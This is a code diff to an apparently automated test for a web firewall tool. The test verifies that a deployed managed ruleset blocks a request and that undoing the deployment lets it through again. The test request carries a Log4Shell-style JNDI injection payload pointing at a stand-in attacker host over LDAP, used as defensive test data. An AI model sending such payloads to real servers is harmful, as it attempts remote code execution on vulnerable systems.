@@ -88,7 +88,8 @@ test('gatehouse protect deploys the Free Managed Ruleset on the free plan, and u
   match(report.protection, /by the Free Managed Ruleset .*--plan pro/);
   const path = '/?x=$%7Bjndi:ldap://evil.example/a%7D';
   await eventually(async () => (await site.visit('free.test', path)) === 403);
-  const words = report.steps.at(-1).undo.split(' ').slice(1);
+  const step = report.steps.find(({ did }: { readonly did: string }) => did.startsWith('deployed'));
+  const words = step.undo.split(' ').slice(1);
   equal((await site.run(...words)).code, 0);
   await eventually(async () => (await site.visit('free.test', path)) === 200);
 });
